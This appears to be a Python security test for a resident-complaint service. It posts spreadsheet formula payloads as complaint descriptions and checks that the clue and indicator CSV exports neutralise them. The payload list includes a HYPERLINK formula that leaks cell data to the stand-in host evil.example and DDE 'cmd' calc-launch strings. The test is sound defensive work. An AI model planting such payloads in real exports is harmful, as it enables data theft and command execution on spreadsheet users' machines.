"""Issue 15, finding 6 (CSV injection), performed as the probe did: a resident's
description starting with `=` (`=HYPERLINK(...)`) left the export as a live formula.
Now every text cell a spreadsheet would read as a formula (=, +, -, @, tab, CR) leaves
prefixed with `'` (OWASP), in the clue export and the indicators CSV."""

from __future__ import annotations

import csv
import io

import httpx

from tests.security.world import World

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_a_formula_in_a_description_leaves_the_export_as_text(world: World) -> None:
    with httpx.Client(base_url=world.url, timeout=10) as client:
        for n, text in enumerate(HOSTILE):
            form = {"service_code": "CG-001", "long": str(119.921 + n / 5000), "lat": "28.466"}
            answer = client.post("/open311/v2/requests.json", data=form | {"description": text})
            assert answer.status_code == 200, answer.text
        export = client.get("/api/v1/exports/clues.csv", headers=world.headers("operator"))
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"), newline="")))
    descriptions = {row["description"] for row in rows}
    for text in HOSTILE:  # (intake strips a leading tab or CR: what is left starts with =)
        assert "'" + text.lstrip() in descriptions, f"{text!r} left as a formula"
    assert not any(d.startswith(("=", "+", "-", "@", "\t", "\r")) for d in descriptions)
    assert all(not row["lon"].startswith("'") for row in rows)  # numbers stay numbers


def test_the_indicators_csv_neutralises_its_text_cells(world: World) -> None:
    answer = httpx.get(
        f"{world.url}/api/v1/stats/indicators.csv",
        headers=world.headers("admin"),
        timeout=10,
    )
    assert answer.status_code == 200, answer.text
    cells = [cell for row in csv.reader(io.StringIO(answer.text.lstrip("\ufeff"))) for cell in row]
    assert cells and not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
